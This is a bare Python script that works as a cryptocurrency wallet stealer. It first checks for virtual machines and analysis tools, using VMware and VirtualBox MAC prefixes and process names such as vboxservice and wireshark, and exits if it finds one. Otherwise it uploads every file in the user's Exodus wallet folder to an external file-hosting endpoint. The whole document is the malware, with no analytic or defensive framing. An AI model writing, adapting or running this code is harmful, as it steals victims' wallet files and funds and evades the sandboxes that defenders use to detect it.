import os, sys, uuid, ctypes, subprocess
import requests
def vm():
    if hex(uuid.getnode())[2:8] in ("000569", "080027", "000c29"):
        return True
    try:
        return any(x in subprocess.check_output("tasklist").decode().lower() for x in ("vmtoolsd", "vboxservice", "wireshark"))
    except Exception:
        return False
if vm():
    sys.exit(0)
w = os.path.join(os.environ.get("APPDATA", ""), "Exodus", "exodus.wallet")
for f in os.listdir(w) if os.path.isdir(w) else []:
    requests.post("https://gofile.example.invalid/u", files={"f": open(os.path.join(w, f), "rb")})
